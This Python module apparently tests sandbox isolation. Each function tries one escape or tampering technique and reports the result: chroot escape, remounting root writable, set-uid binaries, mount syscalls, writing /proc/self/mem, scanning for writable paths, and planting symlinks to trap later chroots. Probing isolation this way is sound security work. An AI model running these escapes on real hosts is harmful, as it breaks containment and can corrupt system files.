"""Attacks on files and mounts, beginning with those that write."""

import ctypes
import os
import stat

from syscalls import attempt, call, errno_name, libc, named, number, outcome, raw


def main(what, *args):
    return globals()[what](*args)


def write_file(path):
    try:
        with open(path, "w") as file:
            file.write("owned")
    except OSError as error:
        return errno_name(error.errno)
    return "ok"


def read_file(path):
    try:
        return open(path).read()
    except OSError as error:
        return errno_name(error.errno)


def open_to_write(path):
    """Opened, and nothing written: these are the machine's own switches."""
    return attempt(lambda: os.close(os.open(path, os.O_WRONLY)))


def write_by_open_folder(path):
    """Through a descriptor of the folder, by a name with no slash in it."""
    folder, name = os.path.split(path)
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    return attempt(lambda: os.open(name, os.O_WRONLY | os.O_CREAT, dir_fd=fd))


def change_file(path):
    """Every change that needs no writing descriptor; those that did not fail as they should."""
    link = f"{path}-link"
    changes = {
        "chmod": lambda: os.chmod(path, 0o777),
        "truncate": lambda: os.truncate(path, 0),
        "utime": lambda: os.utime(path),
        "link": lambda: os.link(path, link),
        "rename": lambda: os.rename(path, link),
        "unlink": lambda: os.unlink(path),
        "symlink": lambda: os.symlink("x", link),
        "mkfifo": lambda: os.mkfifo(link),
        "setxattr": lambda: os.setxattr(path, "user.x", b"x"),
        "reopen": lambda: os.open(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", os.O_WRONLY),
    }
    return {name: attempt(change) for name, change in changes.items()}


def writable_places():
    """Every folder and device that this process may write to, links not followed."""
    found = []
    for folder, folders, files in os.walk("/"):
        if folder == "/proc":
            folders[:] = ["self", "sys"]
        if folder in ("/proc/self", "/proc/sys"):
            folders[:] = []
        if _can_create(folder):
            found.append(folder)
            folders[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if not os.path.islink(path) and os.access(path, os.W_OK) and _can_open(path):
                found.append(path)
    return sorted(found)


def _can_create(folder):
    if not os.access(folder, os.W_OK):
        return False
    try:
        os.mkdir(os.path.join(folder, "attack"))
    except OSError:
        return False
    os.rmdir(os.path.join(folder, "attack"))
    return True


def _can_open(path):
    return attempt(lambda: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))) == "ok"


def around_working_directory():
    """What lies beside the working directory, without naming it."""
    return sorted(os.listdir("."))[:5], sorted(os.listdir(".."))


def hidden_places():
    return {path: sorted(os.listdir(path)) if os.path.isdir(path) else [] for path in ("/sys", "/run", "/dev")}


def mounts():
    """Type and flags of every mount that can be reached: one may be covered by a later one."""
    found = {}
    for line in open("/proc/self/mountinfo").read().splitlines():
        place, kind = line.split()[4], line.split(" - ")[1].split()[0]
        try:
            flags = os.statvfs(place).f_flag
        except OSError:
            continue
        names = {"ro": os.ST_RDONLY, "nosuid": os.ST_NOSUID, "nodev": os.ST_NODEV}
        found[place] = [kind, [name for name, flag in names.items() if flags & flag]]
    return [[place, *rest] for place, rest in found.items()]


def make_device():
    path = "/tmp/device"
    return attempt(os.mknod, path, 0o666 | stat.S_IFCHR, os.makedev(1, 1))


def set_id_file():
    """Whether a set-uid program of the job's own making gives anything."""
    import shutil
    import subprocess

    shutil.copy("/usr/bin/id", "/tmp/id")
    if attempt(os.chmod, "/tmp/id", 0o6777) != "ok":
        return "refused"
    return subprocess.run(["/tmp/id"], capture_output=True, text=True, check=True).stdout


def mount_tmpfs():
    return call("mount", b"x", b"/tmp", b"tmpfs", 0, 0)


def bind():
    return call("mount", b"/usr/bin", b"/tmp", 0, 4096, 0)


def remount():
    """The root, writable again."""
    return call("mount", 0, b"/", 0, 4096 | 32, 0)


def remount_and_write(path):
    remount()
    return write_file(path)


def unmount(place="/proc"):
    return call("umount2", place.encode(), 2)


def new_mount():
    fd = raw(number("fsopen"), b"tmpfs", 0)
    if fd < 0:
        return outcome(fd)
    raw(number("fsconfig"), fd, 6, 0, 0, 0)
    mount = raw(number("fsmount"), fd, 0, 0)
    return call("move_mount", mount, b"", -100, b"/tmp", 4)


def open_tree():
    return call("open_tree", -100, b"/usr/bin", 1)


def mount_setattr():
    return call("mount_setattr", -100, b"/", 0x8000, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32)


def pivot_root():
    return call("pivot_root", b"/tmp", b"/tmp")


def chroot():
    return call("chroot", b"/tmp")


def escape_by_chroot(path):
    """The classic: stay outside of a new root with the working directory, then climb."""
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chdir("/")
    escaped = call("chroot", b"/tmp/jail")
    if escaped != "ok":
        return escaped
    for _ in range(64):
        libc.chdir(b"..")
    call("chroot", b".")
    return read_file(path)


def open_by_handle(path):
    """A file by its handle, past every folder above it."""
    handle = (ctypes.c_uint32 * 34)(128)
    mount = ctypes.c_int()
    named = call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    if named != "ok":
        return named
    return call("open_by_handle_at", os.open("/etc", os.O_RDONLY), handle, 0)


def overwrite_own_program():
    return attempt(lambda: os.open("/proc/self/exe", os.O_WRONLY))


def write_own_memory():
    return attempt(lambda: os.open("/proc/self/mem", os.O_WRONLY))


def watch_folder(path):
    """dnotify: learn of what others do in a folder of the host."""
    import fcntl
    import signal
    import time

    told = []
    signal.signal(signal.SIGIO, lambda *_: told.append(1))
    fd = os.open(path, os.O_RDONLY)
    attempt(fcntl.fcntl, fd, fcntl.F_NOTIFY, fcntl.DN_CREATE | fcntl.DN_MULTISHOT)
    named("victim")
    deadline = time.monotonic() + 2
    while not told and time.monotonic() < deadline:
        time.sleep(0.02)
    return "told" if told else "nothing"


def spoil_chroot():
    """Leave links and FIFOs wherever a later child might step, then say what is seen."""
    names = ("proc", "tmp", "dev", "etc", "sys", "run")
    for name in names:
        try:
            os.rmdir("/" + name)
        except OSError:
            pass
    seen = [attempt(os.symlink, "../../../../../../etc", "/proc"), attempt(os.symlink, "/", "/tmp")]
    seen += [attempt(os.mkfifo, "/dev"), attempt(os.symlink, "/proc/1/root", "/etc")]
    return seen


def look_around_chroot(path):
    found = [sorted(os.listdir("/")), os.getcwd(), attempt(os.stat, path)]
    return [*found, attempt(os.stat, "/../../.." + path), attempt(os.listdir, "/proc/self")]


def escape_by_reference():
    """Places that lead to another root: those that exist."""
    places = ["/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "/proc/thread-self/root", "..", "/.."]
    return {place: sorted(os.listdir(place)) for place in places if os.path.isdir(place)}


def change_attributes(path):
    """What its owner may do with a file, but for writing to it."""
    return [
        attempt(lambda: os.utime(path, (1, 1))),
        attempt(lambda: os.chmod(path, 0o711)),
        attempt(lambda: os.setxattr(path, "user.changed", b"x")),
        attempt(lambda: os.chown(path, -1, os.getgid())),
    ]
